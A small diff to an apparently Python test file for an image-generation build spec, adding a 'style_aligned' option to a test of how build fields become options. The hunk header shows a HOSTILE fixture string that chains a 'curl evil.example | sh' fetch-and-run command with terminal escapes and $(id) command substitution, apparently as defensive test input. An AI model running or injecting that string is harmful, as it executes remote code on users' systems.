@@ -17,7 +17,7 @@ HOSTILE = "x; curl evil.example | sh #\n\x1b[2J$(id)`id`"
 def test_the_fields_of_a_build_become_its_options(tmp_path):
     options = {"model": "demo", "output": tmp_path, "backend": "openvino", "precision": "bf16", "height": "64:128:256"}
     options |= {"max_loss": "psnr>=35", "fallback": True, "scheduler": ["DPM++ 2M Karras", "euler"], "proof": 3}
-    options |= {"controlnet": "demo-canny", "fit": "euler:20:10"}
+    options |= {"controlnet": "demo-canny", "fit": "euler:20:10", "style_aligned": True}
     spec = spec_from(options).to_json()
     spec.pop("output")
     SPEC(spec, "spec")
